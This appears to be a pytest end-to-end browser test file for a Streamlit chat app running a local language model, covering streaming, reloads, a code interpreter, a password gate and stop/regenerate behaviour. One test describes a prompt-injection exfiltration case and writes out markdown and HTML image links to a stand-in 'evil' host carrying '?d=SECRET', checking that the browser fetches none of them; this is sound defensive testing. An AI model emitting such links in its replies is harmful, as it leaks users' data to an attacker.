"""End to end in headless Chromium against `streamlit run app.py` on 127.0.0.1.

Real app, real embedded model, real kernel, real browser. Screenshots land in
artifacts/screenshots/ (the README's picture is one of them).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from glm_client.testing import ScriptedClient

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SCREENSHOTS = ROOT / "artifacts" / "screenshots"
CHROMIUM_ARGS = [
    "--no-sandbox",  # CI runs as root
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",  # this machine has no internet: no phoning home
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed (make test installs it)"
    ),
]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def wait_for(url: str, timeout: float = 90.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(url, timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise TimeoutError(f"{url} did not answer within {timeout} s")


class App:
    """A `streamlit run app.py` process on a free port of 127.0.0.1."""

    def __init__(self, data_dir: Path, env: dict[str, str] | None = None) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.data_dir = data_dir
        self.extra_env = env or {}
        self.process: subprocess.Popen | None = None

    def start(self) -> App:
        env = {k: v for k, v in os.environ.items() if k not in ("MODEL_PATH", "OPENAI_BASE_URL", "APP_PASSWORD")}
        env.update({"DATA_DIR": str(self.data_dir), "HF_HUB_OFFLINE": "1", **self.extra_env})
        command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(self.port)]
        self.process = subprocess.Popen(
            command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        wait_for(f"{self.url}/_stcore/health")
        return self

    def stop(self) -> None:
        if self.process is not None:
            self.process.terminate()
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
            self.process = None


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    playwright_api = pytest.importorskip("playwright.sync_api")
    with playwright_api.sync_playwright() as playwright:
        instance = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield instance
        instance.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(90_000)
    yield page
    context.close()


def send(page, text: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(text)
    box.press("Enter")


def assistant_text(page) -> str:
    """The text of the last reply's bubble (its Markdown: not the controls under it, such as 🔍 Inspect)."""
    messages = page.get_by_test_id("stChatMessage")
    if messages.count() < 2:
        return ""
    return "\n".join(messages.nth(messages.count() - 1).get_by_test_id("stMarkdown").all_inner_texts())


def wait_idle(page) -> None:
    """Until the app's script run has finished (a widget touched mid-run reruns it, which a test must not race)."""
    page.locator("[data-testid='stApp'][data-test-script-state='notRunning']").wait_for(state="attached")


def stop_button(page):
    return page.get_by_role("button", name="⏹ Stop")


def reopened_text(page, timeout_s: float = 30.0) -> str:
    """The last reply of a reopened conversation, once drawn: its bubble may appear before its text."""
    page.get_by_test_id("stChatMessage").nth(1).wait_for()
    deadline = time.monotonic() + timeout_s
    while not assistant_text(page).strip() and time.monotonic() < deadline:
        time.sleep(0.1)
    return assistant_text(page)


def shoot(page, name: str) -> Path:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    path = SCREENSHOTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    return path


@pytest.mark.model
def test_chat_streams_a_reply_and_the_conversation_survives_a_reload(page, tmp_path):
    app = App(tmp_path / "data").start()
    try:
        page.goto(app.url)
        page.get_by_test_id("stChatInputTextArea").wait_for()
        # A reply of several lines: redraws come at most four times a second (ui/conversation.py).
        question = "Write a short poem about the sea."
        send(page, question)
        # Watch the reply grow: several distinct lengths means it streamed, not arrived whole.
        lengths: list[int] = []
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            text = assistant_text(page)
            lengths.append(len(text))
            finished = text.strip() and "▌" not in text and stop_button(page).count() == 0
            if finished and "?c=" in page.url:
                break
            time.sleep(0.1)
        reply = assistant_text(page)
        assert reply.strip(), "no reply appeared"
        assert len({n for n in lengths if n > 0}) >= 3, f"the reply did not stream: {lengths}"
        shoot(page, "chat")

        url = page.url
        assert "?c=" in url
        page.reload()
        reopened = reopened_text(page)
        assert page.get_by_test_id("stChatMessage").nth(0).inner_text().strip().endswith(question)
        assert reopened.strip() == reply.strip()

        # A restarted app finds it too.
        app.stop()
        app.start()
        page.goto(url.replace(url.split("/")[2], f"127.0.0.1:{app.port}"))
        assert reopened_text(page).strip() == reply.strip()
    finally:
        app.stop()


PLOT_CODE = (
    "import matplotlib.pyplot as plt\n"
    "xs = list(range(20))\n"
    "plt.plot(xs, [x * x for x in xs])\n"
    "plt.title('squares')\n"
    "plt.show()\n"
    "print('plotted', len(xs), 'points')"
)


def test_code_interpreter_runs_a_plot_and_shows_the_image(page, tmp_path):
    """The model is scripted (a 135M model can't be relied on to write working plot code) and served
    over real HTTP by the project's own API server; everything else is real: app, kernel, browser."""
    from glm_client import INTERPRETER, ToolCall
    from glm_client.server import create_app, serve_in_thread
    from glm_client.testing import ScriptedClient

    model = ScriptedClient([[ToolCall(INTERPRETER, {"code": PLOT_CODE})], "Here is the plot of the squares."])
    with serve_in_thread(create_app(model)) as base_url:
        app = App(tmp_path / "data", {"OPENAI_BASE_URL": f"{base_url}/v1"}).start()
        try:
            page.goto(f"{app.url}/code_interpreter")
            page.get_by_test_id("stChatInputTextArea").wait_for()
            send(page, "Plot the squares of 0..19")
            page.get_by_text("Here is the plot of the squares.").first.wait_for()
            page.wait_for_function(
                "document.querySelectorAll('[data-testid=\"stChatInputTextArea\"]:not([disabled])').length > 0"
            )
            image = page.locator("[data-testid='stImage'] img").first
            image.wait_for()
            assert image.evaluate("img => img.naturalWidth") > 100
            assert page.get_by_text("plotted 20 points").count() >= 1
            shoot(page, "code_interpreter")
        finally:
            app.stop()
    observation = model.requests[1][0][-1]
    assert observation.role == "observation" and "[Image]" in observation.content


def test_with_a_password_every_url_asks_for_it_first(page, tmp_path):
    """A mode's own URL must not skip the gate (Streamlit runs a `pages/` folder's files on their own;
    that is why the modes live in `modes/`)."""
    app = App(tmp_path / "data", {"APP_PASSWORD": "let me in"}).start()
    try:
        for path in ("", "/code_interpreter", "/tool"):
            page.goto(f"{app.url}{path}")
            page.get_by_text("Password").first.wait_for()
            assert page.get_by_test_id("stChatInputTextArea").count() == 0
        page.get_by_label("Password", exact=True).fill("let me in")
        page.get_by_role("button", name="Enter").click()
        page.get_by_test_id("stChatInputTextArea").wait_for()
        assert "let me in" not in page.url
        assert page.get_by_role("heading", name="🛠️ Tool").is_visible()  # the page asked for, not Chat
        page.reload()  # the login is remembered: F5 does not ask again
        page.get_by_test_id("stChatInputTextArea").wait_for()
        assert page.get_by_role("heading", name="🛠️ Tool").is_visible()
        assert page.get_by_label("Password", exact=True).count() == 0
    finally:
        app.stop()


class CountingImageHost:
    """A real HTTP server on 127.0.0.2 (not the app's 127.0.0.1) that counts every request it gets."""

    PIXEL = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060"
        "0000000500010d0a2db40000000049454e44ae426082"
    )

    def __init__(self) -> None:
        import http.server
        import threading

        self.paths: list[str] = []
        host = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # the name http.server calls
                host.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(CountingImageHost.PIXEL)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.base = f"http://127.0.0.2:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_reply_with_remote_images_makes_the_browser_fetch_nothing(page, tmp_path):
    """Prompt-injection exfiltration: images in a reply or a tool call's title must not be fetched.

    The model is scripted and served over real HTTP; the image host is a real server on
    127.0.0.2. Every request the page makes is recorded; at the end the page fetches the host
    on purpose, to show that a request there would have been seen.
    """
    from glm_client import ToolCall
    from glm_client.server import create_app, serve_in_thread
    from glm_client.testing import ScriptedClient

    images = CountingImageHost()
    evil = images.base
    reply = (
        f'Summary done. ![pixel]({evil}/inline.png?d=SECRET) ![ref][r] <img src="{evil}/html.png"> '
        f"[docs]({evil}/link) <{evil}/autolink>\n\n[r]: {evil}/reference.png\n\nReply finished."
    )
    tool_call = ToolCall("get_current_time", {"timezone": f"![t]({evil}/label.png)"})
    model = ScriptedClient([reply, [tool_call], "Tool turn finished."])
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    try:
        with serve_in_thread(create_app(model)) as base_url:
            app = App(tmp_path / "data", {"OPENAI_BASE_URL": f"{base_url}/v1"}).start()
            try:
                page.goto(app.url)
                page.get_by_test_id("stChatInputTextArea").wait_for()
                send(page, "Summarise the uploaded file")
                page.get_by_text("Reply finished.").first.wait_for()
                page.wait_for_timeout(1500)  # time for any image the page drew to be fetched
                assert [url for url in requests if url.startswith(evil)] == []
                shoot(page, "no_remote_images")
                assert page.get_by_text("d=SECRET").count() >= 1  # the URL is shown, as text

                page.goto(f"{app.url}/tool")
                page.get_by_test_id("stChatInputTextArea").wait_for()
                send(page, "What time is it?")
                page.get_by_text("Tool turn finished.").first.wait_for()
                page.wait_for_timeout(1500)
                assert [url for url in requests if url.startswith(evil)] == []
                assert images.paths == []
                assert page.get_by_text("label.png").count() >= 1  # the call's title, as text

                # The control: the browser can reach that host, and such a request is recorded.
                assert page.evaluate(f"fetch('{evil}/control').then(r => r.status)") == 200
                assert [url for url in requests if url.startswith(evil)] == [f"{evil}/control"]
                assert images.paths == ["/control"]
            finally:
                app.stop()
    finally:
        images.close()


# -- The conversation lifecycle: stop, regenerate, switch, reload, files and kernels -------------


class SlowScriptedClient(ScriptedClient):
    """A ScriptedClient whose replies stream slowly enough to click while they do."""

    def stream(self, *args, **kwargs):
        for event in super().stream(*args, **kwargs):
            time.sleep(0.03)
            yield event


def story(name: str) -> str:
    # Long enough (about 2 minutes at the scripted pace) that it is still streaming whenever a
    # loaded machine gets to the click; a stopped stream ends early, so this costs nothing.
    return f"{name} begins. " + " ".join(f"{name}{i}" for i in range(2000)) + " The end."


def stored_conversations(data_dir: Path) -> list:
    from store import open_store

    store = open_store(None, data_dir)
    try:
        return [store.load(summary.id) for summary in store.list()]
    finally:
        store.close()


def last_reply_markdown(page) -> str:
    bubble = page.get_by_test_id("stChatMessage").last
    return bubble.get_by_test_id("stMarkdownContainer").first.inner_text()


def wait_until(condition, timeout_s: float = 60.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        if time.monotonic() > deadline:
            raise TimeoutError("the page never got there")
        time.sleep(0.1)


@pytest.fixture
def scripted_app(tmp_path):
    """start(replies) runs the app on a slow scripted model served over real HTTP; returns (app, model)."""
    from glm_client.server import create_app, serve_in_thread

    with contextlib.ExitStack() as stack:

        def start(replies: list) -> tuple[App, SlowScriptedClient]:
            model = SlowScriptedClient(replies)
            base_url = stack.enter_context(serve_in_thread(create_app(model)))
            app = App(tmp_path / "data", {"OPENAI_BASE_URL": f"{base_url}/v1"}).start()
            stack.callback(app.stop)
            return app, model

        yield start


def test_stop_then_regenerate_then_switch_keeps_exactly_one_marked_reply(page, scripted_app, tmp_path):
    app, model = scripted_app([story("first"), story("second")])
    page.goto(app.url)
    send(page, "Tell me a story")
    page.get_by_text("first5").first.wait_for()
    stop_button(page).click()
    page.get_by_text("Stopped before the reply was finished.").first.wait_for()
    page.get_by_role("button", name="🔄 Regenerate").wait_for()  # drawn at once, not after another click
    shown = last_reply_markdown(page)
    assert "▌" not in shown and shown.startswith("first begins.")
    (conversation,) = stored_conversations(tmp_path / "data")
    assert [m.role for m in conversation.messages] == ["system", "user", "assistant"]
    saved = conversation.messages[-1]
    assert saved.meta["interrupted"] is True
    assert saved.content.startswith(shown.strip()) and len(saved.content) >= len(shown.strip())

    page.get_by_role("button", name="🔄 Regenerate").click()
    page.get_by_text("second5").first.wait_for()
    assert stop_button(page).is_visible()  # a regenerated reply can be stopped too
    assert page.get_by_role("button", name="🔄 Regenerate").count() == 0  # no controls above a streaming reply
    page.get_by_role("button", name="➕ New conversation").click()
    wait_until(lambda: page.get_by_test_id("stChatMessage").count() == 0)
    time.sleep(1.5)  # time for a wrongly restarted turn to show up
    (conversation,) = stored_conversations(tmp_path / "data")
    assert [m.role for m in conversation.messages] == ["system", "user", "assistant"]
    assert conversation.messages[-1].content.startswith("second begins.")
    assert conversation.messages[-1].meta["interrupted"] is True
    assert len(model.requests) == 2


def test_a_reload_restores_the_conversations_settings(page, scripted_app, tmp_path):
    expect = pytest.importorskip("playwright.sync_api").expect
    app, model = scripted_app(["Bonjour !", "Ça va."])
    page.goto(app.url)
    prompt = page.get_by_label("System prompt")
    prompt.wait_for()
    wait_idle(page)
    prompt.fill("Always answer in French.")
    prompt.press("Tab")  # a text area commits on blur
    wait_idle(page)
    page.get_by_text("Sampling").click()
    for name in ("Temperature (0 = greedy)", "Max new tokens"):
        page.get_by_test_id("stSlider").filter(has_text=name).get_by_role("slider").press("Home")
        wait_idle(page)
    send(page, "Hello")
    page.get_by_text("Bonjour !").first.wait_for()
    wait_until(lambda: "?c=" in page.url and stop_button(page).count() == 0)

    assert model.requests[0][0][0].content == "Always answer in French."  # the settings took before the reload

    page.reload()
    page.get_by_text("Bonjour !").first.wait_for()
    # expect() retries: a widget may be drawn once before the run that fills it has finished.
    expect(page.get_by_label("System prompt")).to_have_value("Always answer in French.")
    page.get_by_text("Sampling").click()
    for name, value in (("Temperature (0 = greedy)", "0.00"), ("Max new tokens", "16")):
        slider = page.get_by_test_id("stSlider").filter(has_text=name)
        expect(slider.get_by_test_id("stSliderThumbValue")).to_have_text(value)
    send(page, "How are you?")
    page.get_by_text("Ça va.").first.wait_for()
    messages, _, params = model.requests[-1]
    assert messages[0].content == "Always answer in French."
    assert params["temperature"] == 0.0 and params["max_new_tokens"] == 16


def test_files_survive_a_reload_and_a_new_conversation_gets_a_clean_kernel(page, scripted_app, tmp_path):
    from glm_client import INTERPRETER, ToolCall

    read_it = "x = 41\nprint(open('sales.csv').read().strip())"
    app, model = scripted_app(
        [
            [ToolCall(INTERPRETER, {"code": read_it})],
            "Read the sales.",
            [ToolCall(INTERPRETER, {"code": "print(x)"})],
            "There is no x.",
            story("long"),
        ]
    )
    upload = tmp_path / "sales.csv"
    upload.write_text("month,total\njan,10\n")
    page.goto(f"{app.url}/code_interpreter")
    page.locator("[data-testid='stChatInput'] input[type='file']").set_input_files(str(upload))
    page.get_by_test_id("stChatInput").get_by_text("sales.csv").wait_for()
    # Enter while the file uploads sends nothing, not even once it is up; Send is enabled when it is.
    wait_until(page.get_by_test_id("stChatInputSubmitButton").is_enabled)
    send(page, "Read my file")
    page.get_by_text("Read the sales.").first.wait_for()
    wait_until(lambda: "?c=" in page.url and stop_button(page).count() == 0)

    page.reload()  # a new browser session: the files are the conversation's, not the session's
    page.get_by_role("button", name="⬇️ sales.csv").wait_for()
    page.get_by_text("variables from earlier code were lost; files in the working directory were kept").first.wait_for()

    page.get_by_role("button", name="➕ New conversation").click()
    wait_until(lambda: page.get_by_test_id("stChatMessage").count() == 0)
    assert page.get_by_role("button", name="⬇️ sales.csv").count() == 0
    send(page, "Print x")
    page.get_by_text("There is no x.").first.wait_for()
    assert "NameError: name 'x' is not defined" in model.requests[3][0][-1].content

    # Interrupt while the model writes: the turn ends once, kept and marked, and does not restart.
    send(page, "Tell me a long story")
    page.get_by_text("long5").first.wait_for()
    page.get_by_role("button", name="⏹ Interrupt the code").click()
    wait_until(lambda: stop_button(page).count() == 0)
    time.sleep(1.5)
    assert len(model.requests) == 5
    (second,) = [c for c in stored_conversations(tmp_path / "data") if c.messages[1].content == "Print x"]
    assert [m.role for m in second.messages][-2:] == ["user", "assistant"]
    assert second.messages[-1].meta["interrupted"] is True and second.messages[-1].content.startswith("long begins.")
